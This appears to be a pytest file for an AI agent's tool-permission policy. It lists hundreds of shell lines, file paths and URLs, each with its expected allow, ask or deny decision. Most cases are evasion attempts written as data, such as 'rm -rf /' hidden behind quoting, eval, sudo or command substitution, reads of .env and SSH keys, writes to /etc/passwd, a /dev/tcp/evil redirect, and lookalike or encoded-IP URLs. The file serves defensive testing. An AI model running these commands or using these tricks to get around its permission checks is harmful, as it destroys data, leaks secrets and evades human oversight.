r"""Lines, paths and addresses that try to get past the rules, each with what must be decided.

The policy lets git, ls and more run, as operators do, and denies rm and pushing.
"""

import pytest

from tests.runtime.permission_world import bash, fetch, policy, touch

POLICY = policy(
    allow="Bash(git:*); Bash(ls:*); Bash(npm run test); Bash(echo:*); Bash(cat:*); Bash(find:*);"
    "Bash(xargs:*); Bash(env:*); Bash(sudo:*); Bash(grep:*); Bash(test:*); Bash(printf:*);"
    "Bash(bash:*); Bash(python3 x.py); Bash(sudo systemctl restart nginx); Bash(timeout 9 make all);"
    "FileEdit(src/**); FileEdit(*.md); WebFetch(domain:example.org); WebFetch(domain:*.docs.example);"
    "WebFetch(domain:bücher.example); WebFetch(domain:127.0.0.1:8080)",
    ask="Bash(git commit:*); Bash(git * --force*); FileRead(**/*.pem)",
    deny="Bash(rm:*); Bash(git push:*); Bash(curl); FileRead(.env); FileEdit(//etc/**);"
    "FileEdit(.git/**); FileRead(~/.ssh/**); WebFetch(domain:evil.example)",
)

LINES = r"""
allow  git status
allow  git log --oneline -5
allow  ls -la src && git diff | cat
allow  git 'status'
allow  g'i't st\atus
allow  $'\x67it' status
allow  npm run test
allow  echo hi > src/a.txt
allow  git log 2>&1
allow  cat < src/a.txt > /dev/null
allow  timeout 9 git status
allow  env git status
allow  TZ=UTC git log
allow  time git status
allow  nohup nice -n 5 git gc
allow  bash -c 'git status && ls'
allow  sudo systemctl restart nginx
allow  timeout 9 make all
allow  (git status; ls)
allow  { git status; }
allow  if git diff; then ls; fi
allow  cat <<'EOF' > src/x\nrm -rf /\nEOF
allow  command -p git status
allow  ! git diff
allow  git status # rm -rf /
allow  echo "a && rm b"
allow  echo 'rm' -rf
allow  python3 x.py
deny   rm -rf /
deny   RM -rf /
deny   rm
deny   /bin/rm -rf x
deny   ../../bin/rm x
deny   r'm' -rf x
deny   \r\m x
deny   r""m x
deny   $'\x72m' x
deny   $'\162m' x
deny   git status && rm x
deny   git status; rm x
deny   git status || rm x
deny   git status & rm x
deny   git status | rm x
deny   git status |& rm x
deny   git status\nrm x
deny   git status # c\nrm x
deny   echo $(rm x)
deny   echo `rm x`
deny   echo "$(rm x)"
deny   echo "${x:-$(rm x)}"
deny   cat <(rm x)
deny   ls > >(rm x)
deny   cat <<E\n$(rm x)\nE
deny   cat <<E\n`rm x`\nE
deny   (rm x)
deny   { rm x; }
deny   if true; then rm x; fi
deny   while rm x; do ls; done
deny   for x in 1; do rm $x; done
deny   case a in a) rm x;; esac
deny   f() { rm x; }; f
deny   function git { rm x; }; git status
deny   ! rm x
deny   time rm x
deny   coproc rm x
deny   sudo rm x
deny   sudo -u root -n rm x
deny   env rm x
deny   env -i A=b rm x
deny   A=b rm x
deny   nohup rm x
deny   nice -n 5 rm x
deny   timeout -s KILL 5 rm x
deny   stdbuf -oL rm x
deny   command rm x
deny   exec rm x
deny   busybox rm x
deny   xargs rm
deny   ls | xargs -0 -n 1 rm -f
deny   find . -exec rm {} \;
deny   find . -name a -execdir rm {} +
deny   bash -c 'rm x'
deny   bash -ec "git status; rm x"
deny   sh -c "sh -c 'rm x'"
deny   sudo env bash -c 'nohup rm x'
deny   eval 'rm x'
deny   eval rm x
deny   trap 'rm x' EXIT
deny   zsh -c 'rm x'
deny   watch -n 1 rm x
deny   git push
deny   git push origin main
deny   git 'push' origin
deny   git pu\sh
deny   rm $FILES
deny   git status && git push $X
deny   [[ a = $(rm x) ]]
deny   echo $((1 + $(rm x)))
deny   a=$(rm x)
deny   export A=`rm x`
deny   cat .env
deny   cat ./src/../.env
deny   cat /home/u/proj/.env
deny   grep --file=.env x
deny   grep -f.env x
deny   cat < .env
deny   git diff --no-index a .env
deny   cat /home/u/.ssh/id_ed25519
deny   echo x > /etc/passwd
deny   echo x >> ../../../etc/passwd
deny   echo x > .git/hooks/pre-commit
deny   git log >.GIT/config
deny   CURL http://a
ask    $CMD x
ask    ${CMD} x
ask    "$CMD" x
ask    r${X}m x
ask    `echo git` status
ask    $(echo git) status
ask    git $X
ask    git "$X"
ask    git st*
ask    g?t status
ask    {git,status}
ask    git {a,b}
ask    git ~/x
ask    ~/bin/git status
ask    ./git status
ask    /tmp/git status
ask    gitx status
ask    git-push
ask    Git status
ask    npm run test2
ask    npm run test x
ask    npm run "test "
ask    npm "run test"
ask    PATH=/tmp git status
ask    LD_PRELOAD=x.so git status
ask    PATH=/tmp; git status
ask    GIT_SSH_COMMAND=x git fetch
ask    LANG=/x git status
ask    export PATH=/tmp; git status
ask    env LD_PRELOAD=x git status
ask    env -S 'git status'
ask    env -C / git status
ask    sudo -s
ask    sudo git status -x; make
ask    sudo --unknown git status
ask    cd /tmp && git status
ask    alias git=x; git status
ask    alias ls='git push'
ask    source x.sh
ask    . ./x.sh
ask    eval "$X"
ask    eval git status
ask    trap 'git status' EXIT
ask    hash -p /tmp/x git; git status
ask    enable -f ./x.so git
ask    printf -v PATH x
ask    test -v 'a[$(id)]'
ask    [[ a[$(id)] -eq 1 ]]
ask    (( a[0] ))
ask    let 'a[$(id)]=1'
ask    read PATH
ask    bash
ask    bash -s
ask    echo git | bash
ask    bash <<< 'git status'
ask    bash <<E\ngit status\nE
ask    bash -c "$X"
allow  bash -c "git $'status'"
ask    sh -c "git $'status'"
ask    dash -c 'git status &>x'
ask    /bin/sh -c 'git {status,log}'
ask    bash --rcfile x -c 'git status'
ask    bash -c
ask    xargs git
allow  ls | xargs
ask    find . -delete
ask    find . -fprint src/x
ask    find . -exec git {} \;
ask    git status > out.txt
ask    git status > $X
ask    git status > /dev/tcp/evil/80
ask    git status >& /dev/sda
ask    git status 2> /root/x
ask    echo x > src/$X
ask    echo x > src/../x
ask    for x in a; do git status; done
ask    f() { git status; }
ask    git() { ls; }; git status
ask    cat .git/config
ask    git status && `
ask    cat <<'E'\n`rm x`\nE\n$X
ask    git status '
ask    git "status
ask    (git status
ask    git status )
ask    if git status
ask    git status \
ask    git<CR>status
ask    git status<CR>\nls
ask    git<NBSP>status
ask    git status<RLO>
ask    git status<ZWSP>
ask    <BOM>git status
ask    git<NUL>status
ask    cat <<E\n$X\nE
ask    cat <<EOF\nnever closed
ask    git $"status"
ask    git $'st\u0061tus\xff'
ask    git commit -m x
ask    git -c a=b push --force
ask    #only a comment
ask    {fd}>src/x git status
ask    coproc git status
ask    select x in a; do git status; done
ask    make
ask    cat key.pem
ask    grep -fdeep/KEY.PEM x
""".strip().splitlines()
SIGNS = {
    "<CR>": "\r", "<NBSP>": "\u00a0", "<RLO>": "\u202e", "<ZWSP>": "\u200b", "<BOM>": "\ufeff",
    "<NUL>": "\0",
}  # fmt: skip


def cases():
    for number, row in enumerate(LINES):
        effect, line = row.split(maxsplit=1)
        line = line.replace("\\n", "\n") if "\\n" in line else line
        for name, sign in SIGNS.items():
            line = line.replace(name, sign)
        yield pytest.param(effect, line, id=f"{number}-{effect}-{row[7:47]}")


@pytest.mark.parametrize(("effect", "line"), list(cases()))
def test_a_line_is_decided_as_written_here(effect, line):
    found = bash(line, POLICY)
    assert found.effect == effect, found
    assert found.why
    assert (found.rule is not None) or effect != "deny"


@pytest.mark.parametrize(
    "line",
    [
        "git " * 3000, "a|" * 4000, "(" * 3000 + "git" + ")" * 3000, "$(" * 2000, "a=(" * 2000,
        "sudo " * 500 + "git", "bash -c " + "'" * 7001, "git;" * 400, "ls " + "a " * 600, "`" * 5000, "<<a " * 1500,
        "x\n" * 4000, "{ " * 2000 + "git" + "; }" * 2000, "\ud800", "git " + "x" * 9000,
        "eval " * 40 + "git", "env " * 12 + "git status",
    ],
    ids=lambda line: repr(line[:12]),
)  # fmt: skip
def test_what_is_too_big_or_too_deep_is_asked(line):
    assert bash(line, POLICY).effect == "ask"


LINKS = {"/home/u/proj/src/link": "/etc", "/home/u/proj/open": "/home/u/.ssh", "/home/u/proj/mine": "/home/u/proj/src"}  # fmt: skip
FILES = """
allow FileEdit src/a.py
allow FileEdit src/deep/er/a.py
allow FileEdit a/b/readme.md
allow FileEdit mine/a.py
allow FileRead src/a.py
allow FileRead a/../b
ask   FileEdit srcx/a.py
ask   FileEdit src/../a.py
ask   FileEdit src
ask   FileEdit a.MD
ask   FileEdit a.md/evil
ask   FileEdit ../other/src/a.py
ask   FileEdit ../proj2/src/a.py
ask   FileEdit /home/u/proj-evil/src/a.py
ask   FileRead ../other/x
ask   FileRead /etc/passwd
ask   FileRead keys/a.pem
ask   FileRead KEYS/A.PEM
deny  FileEdit src/link/passwd
deny  FileEdit /etc/passwd
deny  FileEdit /etc
deny  FileEdit src/../../../../etc/hosts
deny  FileEdit .git/config
deny  FileEdit .Git/config
deny  FileRead .env
deny  FileRead deep/.env
deny  FileRead .env/x
deny  FileRead .ENV
deny  FileRead open/id_ed25519
deny  FileRead ../.ssh/id
""".strip().splitlines()


@pytest.mark.parametrize("row", FILES)
def test_a_path_is_decided_as_written_here(row):
    effect, tool, path = row.split()
    assert touch(tool, path, POLICY, LINKS).effect == effect


URLS = r"""
allow https://example.org/a?b#c
allow http://example.org
allow https://EXAMPLE.org./x
allow https://example.org:443/
allow https://a.docs.example/
allow https://xn--bcher-kva.example/
allow https://bücher.example/
allow http://127.0.0.1:8080/x
ask   https://www.example.org/
ask   https://docs.example/
ask   https://example.org:8443/
ask   http://example.org:443/
ask   https://example.org@other.example/
ask   https://user:pw@example.org/
ask   https://notexample.org/
ask   https://example.org.other.example/
ask   https://exаmple.org/
ask   http://127.0.0.1/
ask   http://[::1]:8080/
ask   https://other.example/#@example.org
ask   https://other.example/?https://example.org
deny  https://evil.example/
deny  https://www.evil.example:99/
deny  https://example.org@evil.example/
deny  https://EVIL.example/
deny  https://ｅｖｉｌ.example/
deny  https://evil。example/
deny  https://example.org\@evil.example/
deny  https://example.org%2eevil.example/
deny  http://0x7f.1:8080/
deny  http://2130706433:8080/
deny  http://127.1:8080/
deny  http://0177.0.0.1:8080/
deny  http://127.0.0.1:99999/
deny  file:///etc/passwd
deny  javascript:alert(1)
deny  //example.org/
deny  https:///x
deny  https://example.org /x
deny  example.org
deny  ftp://example.org/
""".strip().splitlines()


@pytest.mark.parametrize("row", URLS)
def test_an_address_is_decided_as_written_here(row):
    effect, url = row.split(maxsplit=1)
    found = fetch(url, POLICY)
    assert found.effect == effect, found
